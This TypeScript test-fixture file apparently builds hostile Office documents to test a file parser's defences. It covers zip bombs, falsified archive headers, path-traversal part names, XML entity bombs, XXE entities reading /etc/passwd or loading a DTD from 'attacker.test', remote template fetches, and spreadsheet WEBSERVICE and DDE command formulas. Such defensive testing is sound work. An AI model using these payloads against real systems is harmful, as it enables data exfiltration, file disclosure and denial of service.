import { makeZip } from '@tallyport/file-type/testing/make-zip';
import { docxParts, paragraph, WORD } from '@tallyport/worker/document-process/testing/make-files';
import { type HostileFile, hostileFile } from './hostile-file.js';
import { cell, docxOf, docxWith, goodDocx, goodWorkbook, sheetOf } from './office-parts.js';
import { times } from './pdf-parts.js';

const MEGABYTE = 2 ** 20;
const BASE = 'http://schemas.openxmlformats.org';
const RELATION = `${BASE}/officeDocument/2006/relationships`;

/** Letters that hardly pack, so that a file is not refused for how far it unpacks. */
const salt = (index: number): string => (Math.imul(index + 1, 0x9e37_79b1) >>> 0).toString(36);
const DIRECTORY_ENTRY = Buffer.from('PK\u0001\u0002', 'latin1');
const END = Buffer.from('PK\u0005\u0006', 'latin1');

/** An archive in which one number of its directory, or of its end, is falsified. */
function falsified(archive: Buffer, mark: Buffer, offset: number, value: number, size: 2 | 4 = 4): Buffer {
  const at = archive.lastIndexOf(mark) + offset;
  if (size === 4) archive.writeUInt32LE(value, at);
  else archive.writeUInt16LE(value, at);
  return archive;
}

/** All entries of the directory lead to the bytes of the first. */
function overlapping(count: number): Buffer {
  const archive = docxWith(
    Object.fromEntries(Array.from({ length: count }, (_, index) => [`word/part${index}.xml`, Buffer.alloc(MEGABYTE / 4, 0x20)])),
  );
  const first = archive.indexOf(DIRECTORY_ENTRY, archive.indexOf('word/part0.xml', archive.indexOf(DIRECTORY_ENTRY)) - 60);
  const start = archive.readUInt32LE(first + 42);
  for (let at = first; at >= 0; at = archive.indexOf(DIRECTORY_ENTRY, at + 4)) archive.writeUInt32LE(start, at + 42);
  return archive;
}

/** Archives inside of archives, sixteen in each. */
function matryoshka(depth: number): Buffer {
  if (depth === 0) return makeZip({ 'zeros.bin': Buffer.alloc(4 * MEGABYTE) });
  const inner = matryoshka(depth - 1);
  return makeZip(Object.fromEntries(Array.from({ length: 16 }, (_, index) => [`lib ${index}.zip`, inner])));
}

const ENTITIES = `<!DOCTYPE lolz [<!ENTITY l0 "lol">${times(9, (level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`)}]>`;
const OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://attacker.test/x.dtd">%p;]>';
const body = (xml: string, before = ''): string => `${before}<w:document xmlns:w="${WORD}"><w:body>${xml}</w:body></w:document>`;

const ARCHIVES: readonly HostileFile[] = [
  ...[40, 200].map((size) =>
    hostileFile(`a DOCX whose text unpacks to ${size} MB`, () => docxWith({ 'word/document.xml': Buffer.alloc(size * MEGABYTE, 0x20) })),
  ),
  hostileFile('a DOCX with a picture that unpacks ten thousandfold', () =>
    docxWith({ 'word/media/image1.bin': Buffer.alloc(250 * MEGABYTE) }),
  ),
  hostileFile('a DOCX of 300 parts of a megabyte', () =>
    makeZip({
      ...docxParts(paragraph('x')),
      ...Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`word/media/${index}.bin`, Buffer.alloc(MEGABYTE - 1)])),
    }),
  ),
  hostileFile('a DOCX that claims a small size for a large part', () =>
    falsified(docxWith({ 'z.xml': Buffer.alloc(40 * MEGABYTE, 0x20) }), DIRECTORY_ENTRY, 24, 100),
  ),
  hostileFile('a DOCX that claims four gigabytes for a small part', () => falsified(goodDocx(), DIRECTORY_ENTRY, 24, 0xffff_fffe)),
  hostileFile('a DOCX whose entries overlap', () => overlapping(40)),
  hostileFile('a DOCX that holds archives in archives', () => docxWith({ 'word/embeddings/a.zip': matryoshka(2) })),
  hostileFile('a DOCX of 65,535 entries', () =>
    makeZip({ ...docxParts(''), ...Object.fromEntries(Array.from({ length: 65_532 }, (_, index) => [`e${index}`, ''])) }),
  ),
  hostileFile('a DOCX that claims 65,535 entries and has three', () => falsified(goodDocx(), END, 10, 65_535, 2)),
  hostileFile('a DOCX that claims no entry', () => falsified(goodDocx(), END, 10, 0, 2)),
  hostileFile('a DOCX whose directory lies beyond its end', () => falsified(goodDocx(), END, 16, 0x7fff_ffff)),
  hostileFile('a DOCX whose parts are said to be encrypted', () => falsified(goodDocx(), DIRECTORY_ENTRY, 8, 1, 2)),
  hostileFile('a DOCX packed in a way nobody knows', () => falsified(goodDocx(), DIRECTORY_ENTRY, 10, 99, 2)),
  ...[
    '../../etc/passwd',
    '/etc/passwd',
    'C:\\windows\\x',
    'a\u0000b',
    `${'a/'.repeat(10_000)}x`,
    '\u202excod.exe',
    '__proto__',
    'constructor',
  ].map((name) => hostileFile(`a DOCX with a part named ${name.slice(0, 20)}`, () => docxWith({ [name]: 'x' }))),
  hostileFile('a DOCX with the same part twice', () => {
    const archive = docxWith({ 'word/document.xmk': body(paragraph('second')) });
    return Buffer.from(archive.toString('latin1').replaceAll('document.xmk', 'document.xml'), 'latin1');
  }),
];

const MARKUP: readonly HostileFile[] = [
  hostileFile('a DOCX with a billion laughs', () => docxWith({ 'word/document.xml': body(paragraph('&l9;'), ENTITIES) })),
  hostileFile('a DOCX that reaches for a file', () => docxWith({ 'word/document.xml': body(paragraph('&e;'), OUTSIDE) })),
  hostileFile('a DOCX that reaches for a file in UTF-16', () =>
    docxWith({ 'word/document.xml': Buffer.from(`\ufeff${body(paragraph('&e;'), OUTSIDE)}`, 'utf16le') }),
  ),
  hostileFile('a DOCX whose relations reach for a file', () => docxWith({ '_rels/.rels': `${OUTSIDE}<Relationships/>` })),
  hostileFile('a workbook with a billion laughs', () =>
    makeZip({ ...xlsxParts(), 'xl/worksheets/sheet1.xml': `${ENTITIES}<worksheet>&l9;</worksheet>` }),
  ),
  hostileFile('a workbook whose shared strings reach for a file', () =>
    makeZip({ ...xlsxParts(), 'xl/sharedStrings.xml': `${OUTSIDE}<sst><si><t>&e;</t></si></sst>` }),
  ),
  hostileFile('a DOCX that fetches its template', () =>
    docxWith({
      'word/_rels/settings.xml.rels':
        `<Relationships xmlns="${BASE}/package/2006/relationships"><Relationship Id="rId1" Type="${RELATION}/attachedTemplate" ` +
        'Target="http://attacker.test/t.dotm" TargetMode="External"/></Relationships>',
    }),
  ),
  hostileFile('a DOCX with a picture on another machine', () =>
    docxOf(
      `<w:p><w:r><w:drawing><a:blip xmlns:a="${BASE}/drawingml/2006/main" xmlns:r="${RELATION}" r:link="rId9"/></w:drawing></w:r></w:p>`,
    ),
  ),
  hostileFile('a DOCX with macros', () => docxWith({ 'word/vbaProject.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') })),
  hostileFile('a DOCX of 50,000 nested elements', () =>
    docxOf(
      `${times(50_000, (index) => `<w:sdt a="${salt(index)}"><w:sdtContent>`)}${paragraph('deep')}${'</w:sdtContent></w:sdt>'.repeat(50_000)}`,
    ),
  ),
  hostileFile('a DOCX of 300 tables in tables', () =>
    docxOf(`${'<w:tbl><w:tr><w:tc>'.repeat(300)}${paragraph('deep')}${'</w:tc></w:tr></w:tbl>'.repeat(300)}`),
  ),
  hostileFile('a DOCX of 100,000 paragraphs', () => docxOf(times(100_000, (index) => paragraph(`line ${index}`)))),
  hostileFile('a DOCX of 50,000 hidden runs', () =>
    docxOf(`<w:p>${times(50_000, (index) => `<w:r><w:rPr><w:vanish/></w:rPr><w:t>Total ${salt(index)}</w:t></w:r>`)}</w:p>`),
  ),
  hostileFile('a DOCX of runs that never end', () => docxOf('<w:p>'.concat('<w:r><w:rPr><w:vanish/></w:rPr><w:t>x'.repeat(20_000)))),
  hostileFile('a DOCX whose cell spans a billion columns', () =>
    docxOf(`<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>${paragraph('wide')}</w:tc></w:tr></w:tbl>`),
  ),
  hostileFile('a DOCX with one word of five million letters', () => docxOf(paragraph(times(800_000, salt)))),
  hostileFile('a DOCX with an element of 50,000 attributes', () =>
    docxOf(`<w:p ${times(50_000, (index) => `a${index}="x" `)}><w:r><w:t>x</w:t></w:r></w:p>`),
  ),
];

/** A part that relates a file to one other. */
function relationship(kind: string, target: string): string {
  return `<Relationships xmlns="${BASE}/package/2006/relationships"><Relationship Id="rId1" Type="${RELATION}/${kind}" Target="${target}"/></Relationships>`;
}

/** The parts of a good workbook, for replacing some of them. */
function xlsxParts(): Record<string, string> {
  const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
  const part = (name: string, kind: string) => `<Override PartName="/xl/${name}.xml" ContentType="${type}.${kind}+xml"/>`;
  const parts = [part('workbook', 'sheet.main'), part('worksheets/sheet1', 'worksheet'), part('sharedStrings', 'sharedStrings')];
  return {
    '[Content_Types].xml': `<Types xmlns="${BASE}/package/2006/content-types">${parts.join('')}</Types>`,
    '_rels/.rels': relationship('officeDocument', 'xl/workbook.xml'),
    'xl/workbook.xml': `<workbook xmlns="${BASE}/spreadsheetml/2006/main" xmlns:r="${RELATION}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    'xl/_rels/workbook.xml.rels': relationship('worksheet', 'worksheets/sheet1.xml'),
    'xl/worksheets/sheet1.xml': `<worksheet xmlns="${BASE}/spreadsheetml/2006/main"><sheetData><row r="1">${cell('A1', 'x')}</row></sheetData></worksheet>`,
  };
}

const SHEETS: readonly HostileFile[] = [
  hostileFile('a sheet that claims 1,048,576 by 16,384 cells', () =>
    sheetOf(`<row r="1">${cell('A1', 'a')}</row><row r="1048576">${cell('XFD1048576', 'z')}</row>`),
  ),
  hostileFile('a cell in row 99,999,999,999', () => sheetOf(`<row r="99999999999">${cell('ZZZZZZ99999999999', 'far')}</row>`)),
  hostileFile('a cell in row -5', () => sheetOf(`<row r="-5">${cell('A-5', 'before')}</row>`)),
  hostileFile('100,000 cells in one row', () => sheetOf(`<row r="1">${times(100_000, (index) => `<c><v>${index * 7919}</v></c>`)}</row>`)),
  hostileFile('55,000 cells, just below the limit', () =>
    sheetOf(times(550, (row) => `<row r="${row + 1}">${times(100, () => '<c><v>7</v></c>')}</row>`)),
  ),
  hostileFile('100,000 merged ranges over the whole sheet', () =>
    sheetOf(
      `<row r="1">${cell('A1', 'a')}</row>`,
      `<mergeCells>${times(100_000, (index) => `<mergeCell ref="A${1 + (index % 900)}:XFD${1_048_576 - index}"/>`)}</mergeCells>`,
    ),
  ),
  hostileFile('hidden columns to the end of the world', () =>
    sheetOf(`<row r="1">${cell('A1', 'a')}</row>`, '<cols><col min="1" max="999999999" hidden="1"/></cols>'),
  ),
  hostileFile('a cell of three million letters', () =>
    sheetOf(
      `<row r="1">${cell(
        'A1',
        times(400_000, (index) => `${salt(index)} `),
      )}</row>`,
    ),
  ),
  hostileFile('formulas that fetch and start', () =>
    sheetOf(
      `<row r="1"><c r="A1"><f>WEBSERVICE("http://attacker.test/?"&amp;A2)</f><v>1</v></c><c r="B1"><f>cmd|'/c calc'!A0</f><v>2</v></c></row>`,
    ),
  ),
  hostileFile('numbers beyond all numbers and days', () =>
    sheetOf(
      '<row r="1"><c r="A1"><v>1e308</v></c><c r="B1" t="d"><v>99999-99-99</v></c><c r="C1" t="e"><v>#REF!</v></c><c r="D1"><v>NaN</v></c></row>',
    ),
  ),
  hostileFile('a workbook whose strings are not there', () => sheetOf('<row r="1"><c r="A1" t="s"><v>999999999</v></c></row>')),
  hostileFile('a workbook with a link to another', () =>
    makeZip({
      ...xlsxParts(),
      'xl/externalLinks/externalLink1.xml': '<externalLink/>',
      'xl/externalLinks/_rels/externalLink1.xml.rels':
        '<Relationships><Relationship Id="rId1" Target="file:///etc/passwd" TargetMode="External"/></Relationships>',
    }),
  ),
  hostileFile('an XLS whose table of sectors leads in a circle', () => {
    const book = goodWorkbook('biff8');
    const table = 512 * (1 + book.readUInt32LE(76));
    for (let at = table; at < table + 512; at += 4) book.writeUInt32LE(0, at);
    return book;
  }),
  hostileFile('an XLS that claims four billion sectors', () => {
    const book = goodWorkbook('biff8');
    book.writeUInt32LE(0xffff_fff0, 44);
    book.writeUInt32LE(0xffff_fff0, 72);
    return book;
  }),
];

export const OFFICE_BOMBS: readonly HostileFile[] = [...ARCHIVES, ...MARKUP, ...SHEETS];
